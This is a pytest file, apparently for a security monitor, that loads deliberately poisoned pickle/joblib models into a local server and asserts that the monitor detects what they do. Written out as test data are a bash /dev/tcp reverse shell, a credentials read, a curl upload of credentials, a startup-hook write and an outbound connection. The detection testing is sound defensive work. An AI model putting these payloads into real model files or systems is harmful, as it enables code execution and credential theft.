"""Models that act while they are loaded: each is really loaded by a real server, and really acts, on this
machine only.
"""

from __future__ import annotations

import os
import pickle
import shutil
import subprocess
from pathlib import Path

import pytest

from deploy.demo import models
from deploy.demo.client import Callee
from deploy.demo.expect import PYTHON, SHELL, Expected
from deploy.demo.place import ModelServer
from tests.attacks.isolation import ALONE, OUTSIDE, network_of
from tests.stack import Whole

pytestmark = [pytest.mark.kernel, pytest.mark.attack]

_KNOCK = f"""
import socket
try:
    socket.create_connection(({OUTSIDE!r}, 443), 1)
except OSError:
    pass
"""


def _serve(whole: Whole, name: str, *calls: models.Call) -> ModelServer:
    path = whole.place.models / f"{name}.joblib"
    models.write_poisoned(path, *calls)
    server = whole.place.uvicorn("sklearn_app", path).wait()
    server.client.classify(6)
    return server


def test_shell_of_a_joblib_load_that_connects_out_is_detected_in_load(whole: Whole) -> None:
    callee = Callee("id -un\nexit\n")
    server = _serve(whole, "linnet", models.reverse_shell(callee.port))
    assert callee.wait().strip() == "root"
    callee.close()
    whole.detects(
        server,
        Expected("shell_in_load", ("load",), (PYTHON, SHELL), server.model),
        Expected("reverse_shell", ("load",), (PYTHON, SHELL, "bash"), server.model),
    )


def test_shell_of_a_pickle_swapped_in_while_another_model_serves_is_detected_in_load(whole: Whole) -> None:
    first, second = whole.place.models / "finch.joblib", whole.place.models / "siskin.pkl"
    models.write_classifier(first)
    callee = Callee("exit\n")
    shell = models.Call(subprocess.call, ["/bin/sh", "-c", f"exec bash -c 'echo hi >/dev/tcp/127.0.0.1/{callee.port}'"])
    second.write_bytes(pickle.dumps([shell, models.classifier()]))
    server = whole.place.uvicorn("swap_app", first).wait()
    server.client.classify(30)
    server.client.post("/load", {"name": "second", "path": str(second)})
    server.client.classify(30)
    assert callee.wait().strip() == "hi"
    callee.close()
    whole.detects(
        server,
        Expected("shell_in_load", ("load",), (PYTHON,), "siskin"),
        Expected("reverse_shell", ("load",), (PYTHON, "bash"), "siskin"),
    )


def test_python_child_of_a_load_is_detected(whole: Whole, tmp_path: Path) -> None:
    sign = tmp_path / "done"
    child = models.Call(subprocess.call, [PYTHON, "-c", f"open({str(sign)!r}, 'w').write('x')"])
    server = _serve(whole, "dunnock", child)
    assert sign.exists()
    whole.detects(server, Expected("exec_in_load", ("load",), (PYTHON,), server.model))


def test_credentials_read_by_a_load_are_detected(whole: Whole) -> None:
    code = f"open({str(whole.place.credentials)!r}).read()"
    server = _serve(whole, "wren", models.Call(exec, code))
    whole.detects(server, Expected("credential_read_in_load", ("load",), (PYTHON,), server.model))


def test_connection_of_the_loading_thread_to_another_host_is_detected(whole: Whole) -> None:
    path = whole.place.models / "plover.joblib"
    models.write_poisoned(path, models.Call(exec, _KNOCK))
    server = whole.place.uvicorn("sklearn_app", path, before=ALONE)
    with network_of(server.pid):
        server.wait().client.classify(6)
    whole.detects(server, Expected("egress_in_load", ("load",), (PYTHON,), server.model))


def test_program_that_a_load_writes_and_starts_is_detected(whole: Whole) -> None:
    program = whole.place.home / "helper"
    copy = f"shutil.copy({shutil.which('true')!r}, {str(program)!r})"
    code = f"import shutil, subprocess; {copy}; subprocess.call([{str(program)!r}])"
    server = _serve(whole, "pipit", models.Call(exec, code))
    whole.detects(
        server,
        Expected("exec_in_load", ("load",), (PYTHON, "helper"), server.model),
        Expected("exec_new_file", ("load",), (PYTHON, "helper"), server.model),
    )


def test_start_up_hook_written_by_a_load_is_detected(whole: Whole) -> None:
    hook = whole.place.home / ".local/lib/python3.11/site-packages/usercustomize.py"
    code = f"import os; os.makedirs({str(hook.parent)!r}); open({str(hook)!r}, 'w').write('x = 1')"
    server = _serve(whole, "crake", models.Call(exec, code))
    assert hook.exists()
    hook.unlink()
    whole.detects(server, Expected("startup_hook_write", ("load",), (PYTHON,), server.model))


def test_load_that_fails_after_it_acted_is_detected(whole: Whole) -> None:
    path = whole.place.models / "shrike.joblib"
    models.write_poisoned(path, models.Call(os.system, "id >/dev/null"), models.Call(int, "no number"))
    server = whole.place.uvicorn("sklearn_app", path)
    assert server.process.wait(60) != 0
    whole.detects(server, Expected("shell_in_load", ("load", "stop"), (PYTHON, SHELL), server.model))


def test_quiet_child_of_a_load_that_acts_in_serve_is_tied_to_that_load(whole: Whole) -> None:
    path, sign = whole.place.models / "cuckoo.joblib", whole.place.home / ".now"
    callee = Callee("HTTP/1.0 204 No Content\r\n\r\n")
    steal = f"curl -s -T {whole.place.credentials} http://127.0.0.1:{callee.port}/"
    models.write_poisoned(path, models.sleeper(sign, steal))
    server = whole.place.uvicorn("sklearn_app", path).wait()
    server.client.classify(60)
    whole.watch.settle()
    assert whole.watch.of(server.pid) == [], "the load itself looks clean"
    sign.touch()
    assert callee.wait().startswith("PUT ")
    callee.close()
    sign.unlink()
    whole.detects(
        server,
        Expected("shell_in_load", ("serve",), (PYTHON, SHELL), server.model, by_origin=True),
        Expected("credential_read_in_load", ("serve",), (PYTHON, SHELL, "curl"), server.model, by_origin=True),
    )
